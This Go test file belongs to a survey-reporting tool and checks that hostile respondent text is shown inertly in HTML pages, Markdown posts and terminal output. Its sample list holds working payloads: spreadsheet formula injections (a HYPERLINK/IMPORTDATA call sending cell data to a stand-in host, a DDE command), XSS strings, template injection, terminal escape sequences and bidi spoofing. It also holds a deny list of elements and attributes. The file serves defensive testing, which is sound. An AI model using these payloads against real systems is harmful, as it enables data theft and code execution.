package cli_test

import (
	"bytes"
	"context"
	"encoding/xml"
	"errors"
	"fmt"
	"html"
	"io"
	"iter"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"canvass/internal/analysis"
	"canvass/internal/analysis/tally"
	"canvass/internal/effort"
	"canvass/internal/export"
	pagehtml "canvass/internal/export/html"
	"canvass/internal/export/markdown"
	"canvass/internal/export/term"
	"canvass/internal/report"
	"canvass/internal/report/publication"
	"canvass/internal/report/summary"
	"canvass/internal/survey"
	"canvass/internal/text"
)

// nasty is what people type who mean harm or live in another script: formulas, the
// mechanics of spreadsheets, Unicode, terminals, markup.
func nasty() []string {
	return []string{
		"=1+1", `=HYPERLINK("http://x.example/?"&A1,"ok")`, `=IMPORTDATA("http://x.example/"&B2)`, `=WEBSERVICE("http://x.example")`, "=cmd|'/c calc'!A1", "@SUM(1)", "+1+1", "-1+1",
		"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "＝1+1", `a,"=1+1"`, "a;=1+1", "'=1+1", "- I agree", "@handle",
		strings.Repeat("x", 32767), strings.Repeat("y", 32768), strings.Repeat("long words ", effort.Of(10_000, 100_000)), strings.Repeat("😀", 16384), "_x000D_", "_x0041_", "  edge blanks  ", "one\r\ntwo\rthree",
		"00123", "1e5", "1/2", "MARCH1", "12345678901234567", "TRUE", "#REF!", "\ufffe\uffff", "javascript:alert(1)", `a/b:c*?[x]`, "'q'", "History", "forty characters of an organisation's name", "CASE", "case", "",
		"Zoë", "Zoe\u0308", "👩‍👩‍👧‍👦", "👍🏽🇪🇸", "مرحبا hello 123", "שלום, עולם!", "\u202egpj.exe", "\u2066unclosed", "zero\u200bwidth", "Аnа", "e" + strings.Repeat("\u0301", 200), "nul\x00byte", "\xed\xa0\x80lone", "\xff\xfe", "\xc0\xaf",
		"\ufeffat the start", "in the mid\ufeffdle", "curly “quotes”", "line\u2028sep\u2029par", "next\u0085line", "İıß", "\u00a0\u00a0",
		"\x1b[2J", "\x1b]0;title\a", "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;aGk=\a", "219\r0", "abc\b\b\b", "\u009b31m", "del\x7f", strings.Repeat("w", 10_000), "tab\ttab",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</script>", "<svg onload=alert(1)>", "javascript:alert(2)", "data:text/html,<b>x</b>", "{{.Secret}}", "<!--", "</style>", "&lt;b&gt;",
		"{% include x %}", "{{< raw >}}", "[a](http://x.example)", "![i](javascript:x)", "# heading", "> quote", "```", "---", "| a | b |", "www.x.example",
	}
}

// behind follows each text, with its number: equal wordings are quoted once.
func behind(i int) string {
	return fmt.Sprintf(" and that is all that I have to say on principle %d of yours.", i)
}

// shelf is a store in memory: one form, one person a nasty text, who agrees with a
// principle of their own and lets everybody quote them.
type shelf struct{ versions []survey.Version }

func (s shelf) LastRun(context.Context) (survey.Run, error) {
	return survey.Run{ID: 1, Started: time.Date(2025, 9, 2, 6, 0, 0, 0, time.UTC), Outcome: survey.Done}, nil
}
func (s shelf) Runs(context.Context, int) ([]survey.Run, error) {
	r, err := s.LastRun(context.Background())
	return []survey.Run{r}, err
}
func (s shelf) Forms(context.Context, string) ([]survey.Form, error) {
	f := survey.Form{Run: 1}
	for _, q := range []string{"name", "group", "quote", "rating", "comment"} {
		f.Questions = append(f.Questions, survey.Question{ID: q, Title: q})
	}
	for i := range nasty() {
		f.Questions = append(f.Questions, survey.Question{ID: fmt.Sprint("r", i), Title: fmt.Sprint("r", i)}, survey.Question{ID: fmt.Sprint("c", i), Title: fmt.Sprint("c", i)})
	}
	return []survey.Form{f}, nil
}
func (s shelf) Pins(context.Context) ([]survey.Pin, error)           { return nil, nil }
func (s shelf) Decisions(context.Context) ([]survey.Decision, error) { return nil, nil }
func (s shelf) Current(context.Context, string) iter.Seq2[survey.Version, error] {
	return func(yield func(survey.Version, error) bool) {
		for _, v := range s.versions {
			if !yield(v, nil) {
				return
			}
		}
	}
}
func (s shelf) History(context.Context, string) iter.Seq2[survey.Version, error] {
	return func(func(survey.Version, error) bool) {}
}
func (s shelf) Counts(context.Context, string) (survey.Kept, error) {
	return survey.Kept{Current: len(s.versions)}, nil
}

func nastyEdition(t *testing.T, names bool) *report.Edition {
	t.Helper()
	p := survey.Project{Name: "Hostile", Location: time.UTC, Languages: []string{"en"}, Rounds: []survey.Round{{ID: "all"}}}
	src := survey.Source{Name: "form", Type: survey.GoogleForm, Role: survey.Feedback, Mappings: []survey.Mapping{
		{Question: "name", Field: survey.FieldName}, {Question: "group", Field: survey.FieldGroup}, {Question: "quote", Field: survey.FieldConsentQuote},
	}}
	s := shelf{}
	for i, words := range nasty() {
		words, _ = text.Clean(words)
		id := fmt.Sprintf("P%d", i+1)
		p.Principles = append(p.Principles, survey.Principle{ID: id, Title: survey.Texts{"en": "Principle"}})
		src.Mappings = append(src.Mappings, survey.Mapping{Question: fmt.Sprint("r", i), Field: survey.FieldRating, Principle: id},
			survey.Mapping{Question: fmt.Sprint("c", i), Field: survey.FieldComment, Principle: id})
		at := time.Date(2025, 9, 1, 9, 0, i, 0, time.UTC)
		name, comment := fmt.Sprintf("Person N%cmeson", 'a'+i%26), words
		if names { // words of a name would be taken out of the texts
			name, comment = words, fmt.Sprintf("Number %d", i)
		}
		answer := func(q, value string) survey.Answer { return survey.Answer{Question: q, Values: []string{value}} }
		s.versions = append(s.versions, survey.Version{Number: 1, Run: 1, Response: survey.Response{Source: "form", ID: fmt.Sprintf("R%03d", i), Created: at, Submitted: at, Answers: []survey.Answer{
			answer("name", name), answer("group", words), answer("quote", "Yes, with my name"), answer(fmt.Sprint("r", i), "5"), answer(fmt.Sprint("c", i), comment+behind(i)),
		}}})
	}
	p.Sources = []survey.Source{src}
	e, err := report.Open(context.Background(), p, s, analysis.Everything())
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// seen is what a reader must find of a text: its first words as they were typed, with
// controls as their symbols, line breaks and runs of blanks as one blank.
func seen(s string, i int, name bool) string {
	s, _ = text.Clean(s)
	if !name {
		s += behind(i)
	}
	s = strings.Join(strings.Fields(export.Visible(s)), " ")
	return string([]rune(s)[:min(len([]rune(s)), 90)])
}

// What people type is on page and post as typed, is no markup there, and steers
// no terminal anywhere.
func TestNastyTextsStayTexts(t *testing.T) {
	for _, names := range []bool{false, true} {
		nastyTexts(t, names)
	}
}

func nastyTexts(t *testing.T, names bool) {
	e := nastyEdition(t, names)
	d, err := publication.Page(context.Background(), e, "en")
	if err != nil {
		t.Fatal(err)
	}
	var page, post bytes.Buffer
	if err := pagehtml.Write(&page, d); err != nil {
		t.Fatal(err)
	}
	if d, err = publication.Writeup(context.Background(), e, "en"); err != nil {
		t.Fatal(err)
	}
	if err := markdown.Write(&post, d, markdown.Options{Layout: "event"}); err != nil {
		t.Fatal(err)
	}
	onPage := strings.Join(strings.Fields(pageText(t, page.String())), " ")
	inPost := strings.Join(strings.Fields(html.UnescapeString(regexp.MustCompile(`(?m)^> ?`).ReplaceAllString(post.String(), ""))), " ")
	for i, words := range nasty() {
		want := seen(words, i, names)
		if !strings.Contains(onPage, want) {
			t.Errorf("the page does not show %.120q", want)
		}
		named := strings.Map(func(r rune) rune {
			if export.Directs(r) {
				return -1
			}
			return r
		}, want)
		if !strings.Contains(regexp.MustCompile(`\[U\+[0-9A-F]{4}\]`).ReplaceAllString(inPost, ""), named) {
			t.Errorf("the post does not show %.120q", named)
		}
	}
	for name, out := range map[string]string{"page": page.String(), "post": post.String()} {
		if i := strings.IndexFunc(out, func(r rune) bool { return unicode.IsControl(r) && r != '\n' && r != '\t' }); i >= 0 {
			t.Errorf("a control character in the %s: %q", name, out[max(0, i-30):i+10])
		}
	}
	for _, bad := range []string{"<script", "<img", "<svg", "{{", "{%", "](http", "](javascript", "\n# ", "\n```", "http://"} {
		if strings.Contains(post.String(), bad) {
			t.Errorf("the post holds %q", bad)
		}
	}
	if got := strings.Count(post.String(), "\n---\n"); got != 2 {
		t.Errorf("%d rules in the post, want those behind the front matter and before the foot", got)
	}
}

// pageText is the text of a page; it fails on an element that a page has no business with.
func pageText(t *testing.T, page string) string {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(page))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	var out strings.Builder
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return out.String()
		}
		if err != nil {
			t.Fatal(err)
		}
		switch token := token.(type) {
		case xml.CharData:
			out.Write(token)
		case xml.StartElement:
			if strings.Contains(" script img iframe object embed form input base ", " "+token.Name.Local+" ") {
				t.Errorf("an element %s", token.Name.Local)
			}
			for _, a := range token.Attr {
				if strings.HasPrefix(a.Name.Local, "on") || a.Name.Local == "style" || strings.HasPrefix(a.Value, "javascript:") {
					t.Errorf("an attribute %s=%q", a.Name.Local, a.Value)
				}
			}
		case xml.Comment:
			t.Errorf("a comment %q", token)
		}
	}
}

// In the terminal groups are what people typed.
func TestNastyGroupsSteerNoTerminal(t *testing.T) {
	e := nastyEdition(t, false)
	d := summary.Overview(e, tally.Of(e.Findings, tally.Filter{}, tally.ByGroup), tally.Filter{}, tally.ByGroup, nil)
	for _, width := range []int{80, 120} {
		var out bytes.Buffer
		if err := term.Write(&out, d, term.Options{Width: width}); err != nil {
			t.Fatal(err)
		}
		if i := strings.IndexFunc(out.String(), func(r rune) bool { return unicode.IsControl(r) && r != '\n' || export.Directs(r) }); i >= 0 {
			t.Errorf("width %d: a control character: %q", width, out.String()[max(0, i-30):i+10])
		}
		flat := strings.Join(strings.Fields(out.String()), "")
		for _, words := range nasty() {
			words, _ = text.Clean(words)
			want := strings.Join(strings.Fields(term.Safe(strings.TrimSpace(words))), "")
			if r := []rune(want); len(r) > 30 {
				want = string(r[:12]) // a long one is broken over lines, beside its figures
			}
			if !strings.Contains(flat, want) {
				t.Errorf("width %d: %.60q is not shown as typed", width, want)
			}
		}
	}
}
